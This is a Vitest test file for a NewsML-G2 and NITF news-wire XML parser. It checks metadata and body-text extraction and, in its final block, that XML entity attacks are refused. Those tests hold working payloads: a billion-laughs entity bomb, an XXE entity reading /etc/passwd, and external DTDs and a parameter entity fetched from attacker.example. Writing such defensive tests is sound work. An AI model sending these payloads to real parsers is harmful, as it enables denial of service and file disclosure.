import { describe, expect, it } from "vitest";
import { errorOf } from "../../support/errors";
import { parseWire } from "@/lib/domain/wire";
import { expectParsedInvariants, removedTexts } from "./support";

const G2_NS = 'xmlns="http://iptc.org/std/nar/2006-10-01/"';

const pictureItem = `<newsItem guid="urn:pic" version="1"><itemMeta><itemClass qcode="ninat:picture"/></itemMeta>
  <contentSet><remoteContent href="x.jpg" contenttype="image/jpeg"/></contentSet></newsItem>`;

const textItem = `<newsItem guid="tag:example.com,2023:kim" version="4" xml:lang="en-GB">
  <rightsInfo><copyrightHolder literal="Example Syndication"/></rightsInfo>
  <itemMeta><itemClass qcode="ninat:text"/><provider literal="reuters.com"/>
    <versionCreated>2023-09-13T01:00:00Z</versionCreated><firstCreated>2023-09-12T08:00:00Z</firstCreated></itemMeta>
  <contentMeta>
    <contentCreated>2023-09-12T07:55:00+09:00</contentCreated>
    <located><name>Seoul</name></located>
    <language tag="en-US"/>
    <headline role="hld:subHeadline">A sub headline</headline>
    <headline>Kim arrives in Russia</headline>
    <dateline>2023-09-12 08:00:00 GMT+00:00</dateline>
    <by>By Josh Smith</by>
    <creditline>Reuters</creditline>
  </contentMeta>
  <contentSet><inlineXML contenttype="application/xhtml+xml"><html xmlns="http://www.w3.org/1999/xhtml">
    <head><title>ignored</title></head>
    <body>
      <p>By Josh Smith</p>
      <p>SEOUL (Reuters) - North Korea's Kim Jong Un arrived in Russia on Tuesday, state media said.</p>
      <p>He met Putin at the <b>Vostochny</b> cosmodrome. &#8220;It was historic,&#8221; he said.</p>
      <p>ARMS FOR FOOD</p>
      <p>Analysts expect an arms deal.</p>
      <p>(Reporting by Josh Smith; Editing by Lincoln Feast)</p>
    </body></html></inlineXML></contentSet>
</newsItem>`;

describe("NewsML-G2", () => {
  const xml = `<?xml version="1.0" encoding="UTF-8"?><newsMessage ${G2_NS}><header><sent>2023-09-13T01:00:00Z</sent></header>
    <itemSet>${pictureItem}${textItem}</itemSet></newsMessage>`;
  const parsed = parseWire({ text: xml, contentType: "application/vnd.iptc.g2.newsmessage+xml" });

  it("parses the first text item of a newsMessage", () => {
    expect(parsed.format).toBe("newsml-g2");
    expect(parsed.externalId).toBe("tag:example.com,2023:kim");
    expect(parsed.externalVersion).toBe(4);
  });

  it("reads contentMeta: main headline, by, creditline, language, contentCreated; a timestamp is not a dateline", () => {
    expect(parsed).toMatchObject({
      headline: "Kim arrives in Russia",
      byline: "Josh Smith",
      agency: "Reuters",
      dateline: "SEOUL",
      date: "2023-09-12",
      language: "en-US",
    });
  });

  it("derives plain text from the XHTML body and cleans it", () => {
    expect(parsed.text.startsWith("Kim arrives in Russia\n\nBy Josh Smith\n\nSEOUL (Reuters) - North Korea's Kim")).toBe(true);
    expect(parsed.text).not.toMatch(/<|ignored/);
    expect(removedTexts(parsed, "byline")).toEqual(["By Josh Smith"]);
    expect(removedTexts(parsed, "dateline")).toEqual(["SEOUL (Reuters) -"]);
    expect(removedTexts(parsed, "subhead")).toEqual(["ARMS FOR FOOD"]);
    expect(removedTexts(parsed, "credit line")).toEqual(["(Reporting by Josh Smith; Editing by Lincoln Feast)"]);
    expect(parsed.sentences.map((s) => s.text)).toEqual([
      "North Korea's Kim Jong Un arrived in Russia on Tuesday, state media said.",
      "He met Putin at the Vostochny cosmodrome.",
      "“It was historic,” he said.",
      "Analysts expect an arms deal.",
    ]);
    expectParsedInvariants(parsed);
  });

  it("reads inlineData text and falls back to located and item dates", () => {
    const item = `<newsItem ${G2_NS} guid="g" version="x"><itemMeta><versionCreated>2020-01-02T00:00:00Z</versionCreated></itemMeta>
      <contentMeta><located literal="Helsinki"/><headline>Otsikko</headline></contentMeta>
      <contentSet><inlineData contenttype="text/plain"><![CDATA[Ensimmäinen kappale.

Toinen kappale <ei> merkintää.]]></inlineData></contentSet></newsItem>`;
    const parsed = parseWire({ text: item });
    expect(parsed).toMatchObject({ headline: "Otsikko", dateline: "Helsinki", date: "2020-01-02", externalVersion: null });
    expect(parsed.sentences.map((s) => s.text)).toEqual(["Ensimmäinen kappale.", "Toinen kappale <ei> merkintää."]);
  });

  it("refuses a document without a text item with inline content", () => {
    const error = errorOf(() => parseWire({ text: `<newsMessage ${G2_NS}><itemSet>${pictureItem}</itemSet></newsMessage>` }));
    expect(error.code).toBe("UNPROCESSABLE");
    expect(error.message).toMatch(/no text item/);
  });
});

describe("NITF", () => {
  const xml = `<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE nitf>
<nitf baselang="en-US">
  <head><title>Title fallback</title>
    <docdata><doc-id id-string="AP-123"/><date.issue norm="20151210T191044Z"/><doc.copyright holder="AP" year="2015"/><du-key version="7" key="k"/></docdata>
  </head>
  <body>
    <body.head>
      <hedline><hl1>Can trading pollution help?</hl1></hedline>
      <byline>By BERNARD CONDON<byttl>AP Business Writer</byttl></byline>
      <distributor>The Associated Press</distributor>
      <dateline><location>NEW YORK</location></dateline>
      <abstract><p>Not body text.</p></abstract>
    </body.head>
    <body.content>
      <block>
        <p>NEW YORK (AP) — The gas produced by hog manure punches holes in the <org>ozone</org> layer.</p>
        <media media-type="image"><media-caption>A farm. (AP Photo)</media-caption></media>
        <hl2>How it works</hl2>
        <p>President George H. W. Bush championed it.</p>
        <p>___</p>
      </block>
    </body.content>
    <body.end><tagline>Contact: x@example.com</tagline></body.end>
  </body>
</nitf>`;
  const parsed = parseWire({ text: xml });

  it("reads hedline, byline without title, distributor, docdata", () => {
    expect(parsed).toMatchObject({
      format: "nitf",
      headline: "Can trading pollution help?",
      byline: "BERNARD CONDON",
      agency: "AP",
      dateline: "NEW YORK",
      date: "2015-12-10",
      language: "en-US",
      externalId: "AP-123",
      externalVersion: 7,
    });
  });

  it("takes the text of body.content only, with subheads marked", () => {
    expect(parsed.text).toBe(
      "Can trading pollution help?\n\nNEW YORK (AP) — The gas produced by hog manure punches holes in the ozone layer.\n\nHow it works\n\nPresident George H. W. Bush championed it.\n\n___",
    );
    expect(removedTexts(parsed, "subhead")).toEqual(["How it works"]);
    expect(removedTexts(parsed, "separator")).toEqual(["___"]);
    expect(parsed.sentences.map((s) => s.text)).toEqual([
      "The gas produced by hog manure punches holes in the ozone layer.",
      "President George H. W. Bush championed it.",
    ]);
    expectParsedInvariants(parsed);
  });

  it("accepts blank lines before the XML declaration", () => {
    expect(parseWire({ text: '\n\n<?xml version="1.0"?><nitf><body><body.content><p>It was pasted.</p></body.content></body></nitf>' }).sentences[0]?.text).toBe("It was pasted.");
  });

  it("refuses malformed XML with the position", () => {
    const error = errorOf(() => parseWire({ text: "<nitf><body><body.content><p>open</body.content></body></nitf>" }));
    expect(error.code).toBe("UNPROCESSABLE");
    expect(error.message).toMatch(/^Malformed XML at line 1/);
    expect(errorOf(() => parseWire({ text: '<?xml version="1.0"?><nitf><p>unclosed' })).code).toBe("UNPROCESSABLE");
  });
});

describe("XML entity attacks are refused, never resolved", () => {
  const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<nitf><body><body.content><p>&lol9;</p></body.content></body></nitf>`;

  const xxe = `<?xml version="1.0"?>
<!DOCTYPE nitf [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<nitf><body><body.content><p>Leak: &xxe;</p></body.content></body></nitf>`;

  const cases: Array<[string, string]> = [
    ["billion laughs", billionLaughs],
    ["external entity (XXE)", xxe],
    ["external DTD (SYSTEM)", '<?xml version="1.0"?><!DOCTYPE nitf SYSTEM "http://attacker.example/nitf.dtd"><nitf><body><body.content><p>x</p></body.content></body></nitf>'],
    ["external DTD (PUBLIC)", '<!DOCTYPE nitf PUBLIC "-//IPTC//DTD NITF 3.4//EN" "http://attacker.example/x.dtd"><nitf/>'],
    ["parameter entity in a NewsML-G2 item", `<!DOCTYPE newsItem [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]><newsItem ${G2_NS}/>`],
    ["entity declared in lowercase", '<!doctype nitf [<!entity a "b">]><nitf/>'],
  ];

  it.each(cases)("%s", (_name, xml) => {
    const started = Date.now();
    const error = errorOf(() => parseWire({ text: xml }));
    expect(error.code).toBe("UNPROCESSABLE");
    expect(error.message).toMatch(/^XML entities are not allowed/);
    expect(Date.now() - started).toBeLessThan(1000);
  });

  it("still decodes the predefined entities and character references", () => {
    const parsed = parseWire({ text: "<nitf><body><body.content><p>A &amp; B &lt;C&gt; &#8212; &#x2019;s &quot;q&quot;.</p></body.content></body></nitf>" });
    expect(parsed.sentences[0]?.text).toBe("A & B <C> — ’s \"q\".");
  });
});
